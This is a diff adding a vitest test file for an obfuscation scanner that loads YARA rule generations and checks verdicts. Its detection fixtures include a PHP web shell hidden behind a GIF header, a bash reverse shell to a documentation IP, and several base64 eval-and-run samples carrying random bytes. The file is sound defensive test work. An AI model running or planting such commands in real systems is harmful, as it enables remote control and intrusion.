@@ -1,0 +1,120 @@
+import { randomBytes } from 'node:crypto'
+import { cp, mkdir, rename, rm, symlink, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { setTimeout as wait } from 'node:timers/promises'
+import { fileURLToPath } from 'node:url'
+import { ObfuscationEngine } from '@guardimesh/scanner/engines/obfuscation/obfuscation-engine.js'
+import { temporaryFolder } from '@guardimesh/testbed/temporary-folder.js'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { never, openFile } from '../engines/fixtures.js'
+import { type BuiltProcess, probe, runBuilt } from './run-built.js'
+
+const STARTER_RULES = fileURLToPath(new URL('../../signatures/yara', import.meta.url))
+let folder: string
+let scanner: BuiltProcess
+let engine: ObfuscationEngine
+const probeSocket = () => join(folder, 'run', 'obfuscation-scanner.probe.sock')
+
+/** Puts a generation with the starter rules and these into force. */
+async function putGeneration(name: string, rules: Record<string, string>): Promise<void> {
+  const generation = join(folder, 'signatures', 'generations', name)
+  await cp(STARTER_RULES, join(generation, 'yara'), { recursive: true })
+  for (const [file, source] of Object.entries(rules)) await writeFile(join(generation, 'yara', file), source)
+  const files = Object.keys(rules).map((file) => ({ path: `yara/${file}`, sizeBytes: 1, sha256: '0'.repeat(64) }))
+  await writeFile(join(generation, 'manifest.json'), JSON.stringify({ generation: name, builtAt: new Date().toISOString(), files }))
+  await symlink(generation, join(folder, 'signatures', 'fresh'))
+  await rename(join(folder, 'signatures', 'fresh'), join(folder, 'signatures', 'current'))
+}
+
+async function verdictOf(name: string, content: string | Uint8Array) {
+  const path = join(folder, 'files', name)
+  await writeFile(path, content)
+  using file = openFile(path)
+  return await engine.scan(file, never)
+}
+
+beforeAll(async () => {
+  folder = await temporaryFolder('obfuscation')
+  for (const name of ['run', 'files', 'signatures']) await mkdir(join(folder, name))
+  scanner = runBuilt('obfuscation-scanner', { RUN_FOLDER: join(folder, 'run'), SIGNATURES_FOLDER: join(folder, 'signatures') })
+  engine = new ObfuscationEngine({ socketPath: join(folder, 'run', 'obfuscation.sock'), timeoutMs: 30_000 })
+  const isListening = () =>
+    probe(probeSocket(), '/livez').then(
+      () => true,
+      () => false,
+    )
+  while (!(await isListening())) await wait(20)
+})
+afterAll(async () => {
+  engine[Symbol.dispose]()
+  await scanner[Symbol.asyncDispose]()
+  await rm(folder, { recursive: true, force: true })
+})
+
+test('before there are rules nothing is clean', async () => {
+  expect((await probe(probeSocket(), '/readyz')).status).toBe(503)
+  expect(await verdictOf('early.php', '<?php echo 1;')).toMatchObject({ kind: 'not-scanned', reason: 'engine_error' })
+})
+
+test('rules are loaded when they come; a broken file is told and left out', async () => {
+  const ready = engine.waitUntilReady(never)
+  await putGeneration('g1', {
+    'broken.yar': 'rule Broken { condition: $missing }',
+    'named.yar': 'rule Named { condition: filename == "give-away.sh" }',
+  })
+  await ready
+  expect((await probe(probeSocket(), '/readyz')).status).toBe(200)
+  expect((await probe(probeSocket(), '/metrics')).body).toContain('guardimesh_obfuscation_rule_files{state="broken"} 1')
+  expect(scanner.output()).toContain('"ruleFile":"broken.yar"')
+  expect(await verdictOf('give-away.sh', '#!/bin/sh\n')).toMatchObject({ kind: 'infected', matches: [{ signatureName: 'Named' }] })
+})
+
+const blob = randomBytes(300).toString('base64')
+test.each([
+  { name: 'a.php', content: `<?php eval(base64_decode('${blob}'));`, rule: 'PHP_Eval_Of_Encoded_Code', severity: 'high' },
+  { name: 'b.gif', content: `GIF89a<?php system($_${'GET'}['c']);`, rule: 'PHP_Runs_What_A_Request_Says', severity: 'critical' },
+  { name: 'c', content: `#!/bin/sh\necho ${blob} | base64 -d | sh\n`, rule: 'Shell_Runs_Encoded_Code', severity: 'high' },
+  { name: 'd.py', content: `import base64\nexec(base64.b64decode('${blob}'))\n`, rule: 'Python_Runs_Encoded_Code', severity: 'high' },
+  { name: 'e.js', content: `eval("${'\\x61\\x3d'.repeat(300)}")`, rule: 'Script_Of_Hex_Escapes', severity: 'medium' },
+  { name: 'f.js', content: `${'var _0x1a2b3c=1;'.repeat(60)}eval(_0x1a2b3c)`, rule: 'JavaScript_Obfuscator', severity: 'medium' },
+  {
+    name: 'g',
+    content: `#!/bin/sh\nbash -i >& /dev/${'tcp'}/192.0.2.1/4444 0>&1\n`,
+    rule: 'Shell_Reverse_Connection',
+    severity: 'critical',
+  },
+])('$rule finds $name', async ({ name, content, rule, severity }) => {
+  const match = {
+    signatureName: rule,
+    engine: 'yara',
+    severity,
+    engineVersion: 'YARA-X 1.20.0, g1',
+    description: expect.stringMatching(/^[A-Z].+\.$/),
+  }
+  expect(await verdictOf(name, content)).toMatchObject({ kind: 'infected', matches: [match] })
+})
+
+test('a file that no rule is about is not even asked for', async () => {
+  const nobody = new ObfuscationEngine({ socketPath: join(folder, 'nobody.sock'), timeoutMs: 1000 })
+  await writeFile(join(folder, 'files', 'notes'), 'plain text')
+  using file = openFile(join(folder, 'files', 'notes'))
+  expect(await nobody.scan(file, never)).toEqual({ kind: 'clean' })
+})
+
+test('contents up to 16 MiB are taken, larger ones in their first part', async () => {
+  const large = Buffer.alloc(20 * 1024 * 1024, 'x = 1\n')
+  expect(await verdictOf('large.py', large)).toEqual({ kind: 'clean' })
+})
+
+test('a new generation takes over while files are scanned', async () => {
+  const scans = Array.from({ length: 40 }, (_, n) => verdictOf(`during-${n}.php`, `<?php eval(base64_decode('${n}'));`))
+  await putGeneration('g2', { 'new.yar': 'rule New { strings: $a = "only in g2" condition: $a }' })
+  for (const verdict of await Promise.all(scans)) expect(verdict.kind).toBe('infected')
+  await scanner.wrote('"generation":"g2"')
+  expect(await verdictOf('g2.sh', '#!/bin/sh\n# only in g2\n')).toMatchObject({ matches: [{ signatureName: 'New' }] })
+})
+
+test('SIGTERM ends it with 0', async () => {
+  scanner.signal('SIGTERM')
+  expect(await scanner.exit()).toBe(0)
+})
